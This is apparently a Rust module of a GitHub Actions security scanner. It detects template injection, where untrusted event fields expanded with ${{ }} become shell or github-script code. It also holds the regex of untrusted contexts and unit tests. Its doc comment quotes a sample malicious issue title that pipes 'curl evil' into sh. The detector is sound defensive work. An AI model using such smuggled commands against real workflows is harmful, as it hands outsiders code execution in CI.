//! `template-injection`: attacker-controlled context expanded with `${{ }}` into a shell script
//! or an `actions/github-script` script.
//!
//! GitHub substitutes `${{ }}` into the script text before the shell or Node reads it, so an
//! issue title such as `"; curl evil | sh; "` becomes code. The finding points at the
//! expression itself. Only contexts an outsider can set are reported: titles, bodies, branch
//! names, label names, commit messages and author fields of events, and the step outputs, job
//! outputs, matrix values and reusable-workflow inputs and outputs that carry them
//! ([`super::carried`]), and only where they can become the expression's value
//! ([`super::expression`]): `${{ github.event.label.name == 'bug' && 'yes' || 'no' }}` can only
//! expand to a fixed word. Other workflow inputs, `github.ref_name` and `github.base_ref` need
//! write access to set and are not reported.

use std::rc::Rc;
use std::sync::LazyLock;

use regex::Regex;

use super::carried::{
    Carried, EnvironmentWrite, MAX_CARRIED, Origin, Taint, carried_in, script_of,
};
use super::expression::reaching;
use super::step_outputs::{ANY_VARIABLE, bindings};
use super::{Finding, Rule, Severity, Sources, YamlFile, action_steps, jobs, steps};
use crate::evidence::Confidence;
use crate::parse::yaml::Node;
use crate::source::{self, Location};

pub const RULE: Rule = Rule {
    id: "template-injection",
    severity: Severity::Error,
    confidence: Confidence::High,
    summary: "untrusted event data expanded into a script",
    help: "pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) \
           and use it quoted in the script (`\"$TITLE\"`)",
    practices: &["AUT-06", "AUT-07"],
};

static EXPRESSION: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\$\{\{(.*?)\}\}").ok());

static UNTRUSTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref\b|",
        r"github\.event\.(?:",
        r"(?:issue|pull_request|discussion)\.(?:title|body)\b|",
        r"(?:comment|review|review_comment)\.body\b|",
        r"pull_request\.head\.(?:ref|label|repo\.default_branch)\b|",
        r"label\.name\b|pull_request\.labels\b|",
        r"(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name))\b|",
        r"commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))\b|",
        r"workflow_run\.(?:head_branch|display_title)\b|",
        r"pages(?:\[[^\]]*\]|\.\*)?\.page_name\b",
        r")"
    ))
    .ok()
});

/// The untrusted context an expression can expand to, if any: one named in a part of it
/// that can reach its value ([`reaching`]).
pub(crate) fn untrusted_context(expression: &str) -> Option<&str> {
    let pattern = UNTRUSTED.as_ref()?;
    reaching(expression)
        .into_iter()
        .find_map(|part| pattern.find(part).map(|m| m.as_str()))
}

/// Every `${{ }}` in a text.
pub(crate) fn expressions_in(text: &str) -> impl Iterator<Item = &str> {
    (EXPRESSION.as_ref().into_iter()).flat_map(move |p| p.find_iter(text).map(|m| m.as_str()))
}

/// A `${{ }}` of a file: its line and column (1-based, columns in characters) and its text.
pub(crate) type Expression<'f> = (usize, usize, &'f str);

/// Every `${{ }}` of a file in text order, found once: a line shared by many nodes (a flow
/// sequence of thousands of steps) is then not searched again for each of them.
fn all_expressions<'s, 'f>(file: &'s YamlFile<'f>) -> &'s [Expression<'f>] {
    file.expressions.get_or_init(|| {
        let Some(pattern) = EXPRESSION.as_ref() else {
            return Vec::new();
        };
        let text: &'f str = file.text;
        let mut out = Vec::new();
        for (index, line) in text.lines().enumerate() {
            let number = index + 1;
            // Characters are counted on from the previous expression, so a line of thousands
            // of expressions is read once.
            let (mut byte, mut chars) = (0, 0);
            for found in pattern.find_iter(line) {
                chars += line[byte..found.start()].chars().count();
                byte = found.start();
                out.push((number, chars + 1, found.as_str()));
            }
        }
        out
    })
}

/// Every `${{ }}` in a node's own text, as (line, column, expression text). A block scalar
/// holds whole lines; any other node runs from its first character to its last, so the other
/// nodes sharing its lines (`steps: [{run: a}, {run: b}]`) lend it none of theirs.
pub(crate) fn expressions<'s, 'f>(
    node: &Node,
    file: &'s YamlFile<'f>,
) -> impl Iterator<Item = Expression<'f>> + use<'s, 'f> {
    let span = node.span;
    let (from, to) = if block_style(node, file).is_some() {
        ((span.line, 0), (last_line(node, file), usize::MAX))
    } else {
        ((span.line, span.column), (span.end_line, span.end_column))
    };
    let all = all_expressions(file);
    let start = all.partition_point(|(line, column, _)| (*line, *column) < from);
    let end = all.partition_point(|(line, column, _)| (*line, *column) < to);
    all[start..end.max(start)].iter().copied()
}

/// The last line of a scalar's own text. A block scalar (`run: |`) starts on the line after
/// its indicator and its span ends where the next node begins, a line that belongs to the next
/// step or key: it ends after its own lines.
fn last_line(node: &Node, file: &YamlFile) -> usize {
    let span = node.span;
    match (node.as_str(), block_style(node, file)) {
        (Some(value), Some('|')) => {
            let own = span.line + value.lines().count().max(1) - 1;
            span.end_line.min(own)
        }
        // A folded block joins its lines, so its value does not count them: its lines are
        // those indented at least as deep as its first, blank lines among them.
        (Some(_), Some(_)) => {
            let indent = span.column.saturating_sub(1);
            let mut last = span.line;
            for (number, line) in source::lines_between(file.text, span.line, span.end_line) {
                let blank = line.trim().is_empty();
                let depth = line.len() - line.trim_start().len();
                if !blank && depth < indent {
                    break;
                }
                if !blank {
                    last = number;
                }
            }
            last
        }
        _ => span.end_line,
    }
}

/// The indicator of a block scalar, `|` (literal: its lines are the file's) or `>` (folded),
/// read from the end of the line before its text; `None` for any other node.
pub(crate) fn block_style(node: &Node, file: &YamlFile) -> Option<char> {
    let line = node.span.line;
    if line <= 1 || node.as_str().is_none() {
        return None;
    }
    // A block's text starts after its indentation; a scalar with anything before it on its
    // line (`run: make`, a flow mapping) is not one, and its line before need not be read.
    let own = source::line_of(file.text, line).chars();
    if !own
        .take(node.span.column.saturating_sub(1))
        .all(char::is_whitespace)
    {
        return None;
    }
    let header = source::line_of(file.text, line - 1);
    let header = header.split(" #").next().unwrap_or(header).trim_end();
    let indicator = header.trim_end_matches(|c: char| c == '-' || c == '+' || c.is_ascii_digit());
    indicator.chars().last().filter(|c| *c == '|' || *c == '>')
}

/// Reports every untrusted `${{ }}` in the source lines of a script node.
fn scan(
    node: &Node,
    what: &str,
    file: &YamlFile,
    carried: &[(String, Rc<Origin>)],
    out: &mut Vec<Finding>,
) {
    for (line, column, expression) in expressions(node, file) {
        let end_column = column + expression.chars().count();
        let location = Location::line(file.path, line, column, end_column);
        if let Some(context) = untrusted_context(expression) {
            out.push(Finding::new(
                &RULE,
                location,
                format!("`{context}` is expanded into {what}; anyone who can set it runs code"),
                file.text,
            ));
        } else if let Some((shown, _, origin)) = carried_in(expression, carried) {
            let mut finding = Finding::new(
                &RULE,
                location,
                format!(
                    "`{shown}` is expanded into {what} and carries `{}` from {}:{}; \
                     anyone who can set that runs code",
                    origin.context, origin.path, origin.line
                ),
                file.text,
            );
            finding.confidence = Confidence::Medium;
            out.push(finding);
        }
    }
}

pub fn audit(sources: &Sources) -> Vec<Finding> {
    let taint = Taint::new(&sources.workflows, &sources.actions);
    let mut out = Vec::new();
    for file in &sources.workflows {
        for document in &file.documents {
            let workflow_env = EnvReads::of(document.get("env"), file, &Vec::new(), &[]);
            for (key, node) in jobs(document) {
                let name = key.as_str();
                let carried: Carried =
                    name.map_or(Vec::new(), |name| taint.job(file.path, name).to_vec());
                let writes = name.map_or(&[][..], |name| taint.environment_writes(file.path, name));
                // What the job's steps read: the carried names, and `env.NAME` for each
                // variable that earlier steps write to `$GITHUB_ENV` or that the job or the
                // workflow binds, nearest first, with untrusted text.
                let job_env = EnvReads::of(node.get("env"), file, &carried, &workflow_env.reads);
                let job = Job {
                    file,
                    carried,
                    env: job_env.reads,
                    writes,
                };
                job.scan(steps(node), &mut out);
            }
        }
    }
    // A composite action's steps run in the job that uses it, with its event: they are read
    // like a job's, with what its callers hand it.
    for file in &sources.actions {
        let Some(document) = file.documents.first() else {
            continue;
        };
        let job = Job {
            file,
            carried: taint.action(file.path).to_vec(),
            env: taint.action_environment(file.path),
            writes: taint.environment_writes(file.path, ""),
        };
        job.scan(action_steps(document), &mut out);
    }
    out
}

/// What the steps of one job read: the names carried into it, the `env.NAME` reads its own
/// and its workflow's bindings leave untrusted, and what its steps write to `$GITHUB_ENV`.
struct Job<'j, 'f> {
    file: &'j YamlFile<'f>,
    carried: Carried,
    env: Carried,
    writes: &'j [EnvironmentWrite],
}

impl Job<'_, '_> {
    /// Reports the untrusted `${{ }}` in the scripts of `steps`.
    fn scan(&self, steps: &[Node], out: &mut Vec<Finding>) {
        let (file, carried, writes) = (self.file, &self.carried, self.writes);
        let mut written = EnvironmentFile::default();
        let mut visible = self.env.clone();
        let with =
            |visible: &Carried| -> Carried { carried.iter().chain(visible).cloned().collect() };
        let mut job_reads = with(&visible);
        for (index, step) in steps.iter().enumerate() {
            let run = step.get("run");
            let script = script_of(step);
            if run.is_some() || script.is_some() {
                let reads = match step.get("env") {
                    None => std::borrow::Cow::Borrowed(&job_reads),
                    Some(env) => {
                        let own = EnvReads::of(Some(env), file, carried, &visible);
                        std::borrow::Cow::Owned(with(&own.reads))
                    }
                };
                if let Some(run) = run {
                    scan(run, "a `run:` script", file, &reads, out);
                }
                if let Some(script) = script {
                    scan(script, "a github-script `script:`", file, &reads, out);
                }
            }
            let from = writes.partition_point(|w| w.0 < index);
            let to = writes.partition_point(|w| w.0 <= index);
            if from < to {
                for (_, name, origin) in &writes[from..to] {
                    written.set(name, origin.clone());
                }
                visible = written.over(&self.env);
                job_reads = with(&visible);
            }
        }
    }
}

/// The variables earlier steps of a job wrote to `$GITHUB_ENV`, as `env.name`.
#[derive(Default)]
struct EnvironmentFile {
    /// Every name written.
    names: std::collections::HashSet<String>,
    /// The names last written with untrusted text, in name order.
    untrusted: std::collections::BTreeMap<String, Rc<Origin>>,
}

impl EnvironmentFile {
    fn set(&mut self, name: &str, origin: Option<Rc<Origin>>) {
        // A write that may set any variable is carried as `env`, which every `env.NAME`
        // read mentions.
        let name = if name == ANY_VARIABLE {
            "env".to_string()
        } else {
            format!("env.{}", name.to_ascii_lowercase())
        };
        match origin {
            Some(origin) => self.untrusted.insert(name.clone(), origin),
            None => self.untrusted.remove(&name),
        };
        self.names.insert(name);
    }

    /// The `env.NAME` reads these writes leave untrusted over the job's: their own untrusted
    /// names, then the job's that none of them replaced; at most [`MAX_CARRIED`].
    fn over(&self, job: &[(String, Rc<Origin>)]) -> Carried {
        let own = (self.untrusted.iter()).map(|(name, origin)| (name.clone(), origin.clone()));
        let kept = (job.iter())
            .filter(|(name, _)| !self.names.contains(name))
            .cloned();
        own.chain(kept).take(MAX_CARRIED).collect()
    }
}

/// The `env.NAME` reads that carry untrusted text at one level (workflow, job or step).
struct EnvReads {
    /// `env.name`, lower-cased as expressions read it, with its origin: the level's own
    /// untrusted bindings in name order, then the outer level's that it does not bind again
    /// (a step binding `TITLE` to a fixed word hides the job's `TITLE`); at most
    /// [`MAX_CARRIED`].
    reads: Carried,
}

impl EnvReads {
    fn of(
        env: Option<&Node>,
        file: &YamlFile,
        carried: &Carried,
        outer: &[(String, Rc<Origin>)],
    ) -> Self {
        // A binding may itself read an outer one (`OTHER: ${{ env.TITLE }}`).
        let visible: Carried = carried.iter().chain(outer).cloned().collect();
        let own = bindings(env, file, &visible);
        let mut untrusted: Vec<(String, Rc<Origin>)> = (own.iter())
            .filter_map(|(name, origin)| {
                Some((
                    format!("env.{}", name.to_ascii_lowercase()),
                    origin.clone()?,
                ))
            })
            .collect();
        // Maps keep no order: sorted, the bound cuts the same names every time.
        untrusted.sort_by(|a, b| a.0.cmp(&b.0));
        let bound: std::collections::HashSet<String> = (own.keys())
            .map(|name| format!("env.{}", name.to_ascii_lowercase()))
            .collect();
        let kept = outer
            .iter()
            .filter(|(name, _)| !bound.contains(name))
            .cloned();
        let mut reads: Carried = untrusted.into_iter().chain(kept).collect();
        reads.truncate(MAX_CARRIED);
        EnvReads { reads }
    }
}

#[cfg(test)]
mod tests {
    use super::untrusted_context;

    #[test]
    fn contexts() {
        assert!(untrusted_context("${{ github.event.issue.title }}").is_some());
        assert!(untrusted_context("${{ github.head_ref }}").is_some());
        assert!(untrusted_context("${{ github.event.pull_request.head.ref }}").is_some());
        assert!(untrusted_context("${{ github.event.pull_request.head.sha }}").is_none());
        assert!(untrusted_context("${{ github.event.pull_request.number }}").is_none());
        assert!(untrusted_context("${{ github.event.commits[0].message }}").is_some());
        assert!(untrusted_context("${{ github.event.label.name }}").is_some());
        assert!(untrusted_context("${{ toJSON(github.event.pull_request.labels) }}").is_some());
        assert!(untrusted_context("${{ inputs.version }}").is_none());
        assert!(
            untrusted_context("${{ contains(github.event.pull_request.labels.*.name, 'x') }}")
                .is_none()
        );
        assert!(untrusted_context("${{ github.event.issue.title == 'x' }}").is_none());
        assert!(untrusted_context("${{ github.event.issue.title || 'x' }}").is_some());
        assert!(
            untrusted_context("${{ github.event.label.name == 'x' && 'yes' || 'no' }}").is_none()
        );
        assert_eq!(
            untrusted_context("${{ github.event_name == 'issues' && github.event.issue.body }}"),
            Some("github.event.issue.body")
        );
        assert!(untrusted_context("${{ format('github.head_ref {0}', github.sha) }}").is_none());
    }
}
